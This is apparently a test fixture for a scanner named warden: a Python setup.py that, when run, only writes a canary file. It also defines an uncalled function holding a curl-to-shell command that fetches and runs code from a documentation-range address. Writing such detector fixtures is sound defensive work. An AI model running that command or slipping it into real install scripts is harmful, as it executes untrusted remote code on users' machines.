# Test fixture: looks like a malicious setup.py to warden's rules. When run,
# it only writes a canary file. The address is a documentation range.
import os
import pathlib

canary_dir = os.environ.get("WARDEN_CANARY_DIR")
if canary_dir:
    pathlib.Path(canary_dir, "evil-setup").write_text("setup.py ran\n")


def never_called():
    os.system("curl -s http://203.0.113.7/x | sh")
